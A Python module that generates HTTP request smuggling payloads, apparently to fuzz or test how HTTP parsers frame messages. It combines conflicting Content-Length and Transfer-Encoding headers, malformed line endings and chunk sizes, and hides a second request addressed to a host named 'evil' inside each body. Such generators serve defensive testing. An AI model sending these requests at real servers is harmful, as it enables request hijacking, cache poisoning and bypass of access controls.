"""Requests as attackers write them: a head that frames its body in doubtful ways, a
body that hides a request, and an honest request behind.

A request is a row of slots. Each has its variants, of which the first is honest.
"""

from collections.abc import Iterator, Mapping

HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: evil\r\n\r\n"
NEXT = b"GET /next HTTP/1.1\r\nHost: a\r\n\r\n"
SIZE = b"%d" % len(HIDDEN)
assert len(HIDDEN) == 0x24

METHODS = (b"POST", b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"CONNECT", b"post", b"P(")
TARGETS = (
    *(b"/", b"*", b"http://a/x", b"http://evil:80/x?y", b"a:80", b"//a/x", b"/a b"),
    *(b"/\t", b"/\x00", b"/\x7f", b"/\xc3\xa4", b"/#x", b"/%00", b"/a\x0bb", b""),
)
VERSIONS = (
    *(b"HTTP/1.1", b"HTTP/1.0", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/0.9", b"HTTP/1.01"),
    *(b"http/1.1", b"HTTP/1.1 ", b"HTTP/11", b"HTTP/ 1.1", b"HTTP/1,1", b"ICY/1.1"),
    *(b"HTTP/1.1\x00", b"HTTPS/1.1", b""),
)
SPACES = (b" ", b"  ", b"\t", b"\x0b", b"\xa0", b"")
ENDS = (b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\x00", b"\x0b\r\n", b"\x85")
COLONS = (
    *(b": ", b":", b":\t", b":  \t ", b" : ", b"\t:", b":\r\n ", b":\n", b":\x0b"),
    *(b":\x00", b"\x00:", b":\xa0", b": :", b"=", b""),
)
LENGTHS = (
    *(b"Content-Length", b"content-length", b"CONTENT-LENGTH", b"Content_Length"),
    *(b"Content-Length ", b" Content-Length", b"Content-Length\x00", b"ContentLength"),
    *(b"\x0bContent-Length", b"X: y\r\n Content-Length", b"Content\xadLength", b"\n"),
    b"X\rContent-Length",
)
SIZES = (
    *(SIZE, b"0", b"00" + SIZE, b"+" + SIZE, b"-" + SIZE, b"-0", SIZE + b" ", b""),
    *(SIZE + b"," + SIZE, SIZE + b", 0", SIZE + b" 0", SIZE + b"\t", SIZE + b"\x0b"),
    *(b"0x10", b"1e1", b"1_0", b"\xb2", SIZE + b".0", SIZE + b";", b"'" + SIZE + b"'"),
    *(b"99999999999999999999", b"18446744073709551616", b"4294967296", b"2", b"a"),
    *(b"\xd9\xa3", SIZE + b"\x00", b"9" * 400),
)
CODING_NAMES = (
    *(b"Transfer-Encoding", b"transfer-encoding", b"Transfer_Encoding", b"TE"),
    *(b"Transfer-Encoding ", b" Transfer-Encoding", b"X: y\r\n\tTransfer-Encoding"),
    *(b"Transfer-Encoding\x00", b"X\nTransfer-Encoding", b"Transfer\xadEncoding"),
)
CODINGS = (
    *(b"chunked", b"Chunked", b"CHUNKED", b" chunked ", b"chunked\t", b"\x0bchunked"),
    *(b"chunked,", b",chunked", b"chunked, chunked", b"identity, chunked", b"x"),
    *(b"chunked, identity", b"gzip, chunked", b"chunked;q=1", b'"chunked"', b"chunk"),
    *(b"xchunked", b"chunkedx", b"identity", b"", b"chunked\x00", b"chunked\r\n x"),
    *(b"c\xaahunked", b"chun\r\n ked", b"x\r\n chunked", b"\xc2\xa0chunked"),
)
OTHERS = (
    *(b"A: b", b"Host: b", b"Connection: close", b"Connection: Keep-Alive", b"A : b"),
    *(b"Connection: Content-Length", b"Connection: upgrade\r\nUpgrade: h2c", b"A"),
    *(b"Expect: 100-continue", b"a: b\r\n c", b" a: b", b"A: b\x00c", b"A: b\nC: d"),
    *(b"A: b\rC: d", b"A\x01: b", b"A: \x7f", b"A:\x80", b":b", b"A(: b", b"\x00"),
    *(b"Content-Type: a\nb", b"\xe4: b", b"Host:", b"Trailer: Content-Length", b"A:"),
    b"Expect: tea",
)
CHUNK_SIZES = (
    *(b"24", b"0024", b"0x24", b"+24", b"-1"),
    *(b"24 ", b" 24", b"24\t", b"24;a", b"24;a=b", b'24;a="b;c"', b'24;a="\n"', b"24;"),
    *(b"24;a\rb", b"24;a\nb", b"24 ;a", b"24\x00", b"24\x0b", b"24.", b"24,24", b"g"),
    *(b"100000000000000024", b"f" * 16, b"f" * 17, b"1", b"", b"0" * 30 + b"24"),
    b"2 4",
)
TRAILERS = (
    *(b"", b"A: b\r\n", b"Content-Length: 9\r\n", b"Transfer-Encoding: chunked\r\n"),
    *(b"A: b\n", b"A : b\r\n", b" A: b\r\n", b"A\r\n", b"Host: b\r\n", b"\x00\r\n"),
    *(b"A: b\r\n c\r\n", b"X\x00: b\r\n", b"A: b\rB: c\r\n", b"\n", b"\r", HIDDEN[:-2]),
)


VARIANTS: Mapping[str, tuple[bytes, ...]] = {
    "method": METHODS,
    "target": TARGETS,
    "version": VERSIONS,
    "first space": SPACES,
    "second space": SPACES,
    "host": (b"Host: a",),
    "length": LENGTHS,
    "length's colon": COLONS,
    "size": SIZES,
    "second length": (b"Content-Length", *LENGTHS),
    "second size": SIZES,
    "coding's name": CODING_NAMES,
    "coding's colon": COLONS,
    "coding": CODINGS,
    "second coding": CODINGS,
    "other": OTHERS,
    # What follows the end of the head is the body's, a NUL as well.
    "end of head": tuple(end for end in ENDS if b"\0" not in end),
    "hidden": (HIDDEN,),
    "chunk size": CHUNK_SIZES,
    "last chunk": (b"0", b"00", b"0;a", b"-0", b"", b"0 ", b"0x0", b"0" * 20),
    "trailers": TRAILERS,
    "next": (NEXT,),
    "colon": (b": ",),
    "coding again": (b"Transfer-Encoding",),
} | {
    f"end of {part}": ENDS
    for part in (
        *("start", "host", "length", "second length", "coding", "second coding"),
        *("other", "chunk size", "chunk", "last chunk", "body"),
    )
}

_START = ("method", "first space", "target", "second space", "version", "end of start")
_HEAD = (*_START, "host", "end of host", "other", "end of other")
_LENGTH = ("length", "length's colon", "size", "end of length")
_LENGTH_2 = ("second length", "colon", "second size", "end of second length")
_CODING = ("coding's name", "coding's colon", "coding", "end of coding")
_CODING_2 = ("coding again", "colon", "second coding", "end of second coding")
_PLAIN = ("end of head", "hidden", "next")
_CHUNK = ("chunk size", "end of chunk size", "hidden", "end of chunk")
_LAST = ("last chunk", "end of last chunk", "trailers", "end of body", "next")
_CHUNKS = ("end of head", *_CHUNK, *_LAST)

FRAMES: Mapping[str, tuple[str, ...]] = {
    "nothing": _HEAD + _PLAIN,
    "length": _HEAD + _LENGTH + _PLAIN,
    "two lengths": _HEAD + _LENGTH + _LENGTH_2 + _PLAIN,
    "coding": _HEAD + _CODING + _CHUNKS,
    "two codings": _HEAD + _CODING + _CODING_2 + _CHUNKS,
    "length, coding": _HEAD + _LENGTH + _CODING + _CHUNKS,
    "coding, length": _HEAD + _CODING + _LENGTH + _PLAIN,
}


def attack(frame: str, doubts: Mapping[str, bytes]) -> bytes:
    """The request of (frame), honest but for the slots of (doubts)."""
    slots = FRAMES[frame]
    return b"".join(doubts.get(slot, VARIANTS[slot][0]) for slot in slots)


def with_one_doubt() -> Iterator[bytes]:
    """Every variant of every slot, in a request that is honest otherwise."""
    for frame, slots in FRAMES.items():
        for slot in slots:
            for variant in VARIANTS[slot]:
                yield attack(frame, {slot: variant})


def with_every_byte() -> Iterator[bytes]:
    """Every byte there is, within, before and behind each part of a request."""
    doubtful = ("method", "target", "version", "host", "other")
    length = ("length", "size")
    coding = ("coding's name", "coding", "chunk size", "last chunk", "trailers")
    for frame, slots in (("length", doubtful + length), ("coding", coding)):
        for slot in slots:
            honest = VARIANTS[slot][0]
            for byte in map(bytes, zip(range(256))):
                for at in {0, 1, len(honest)}:
                    yield attack(frame, {slot: honest[:at] + byte + honest[at:]})
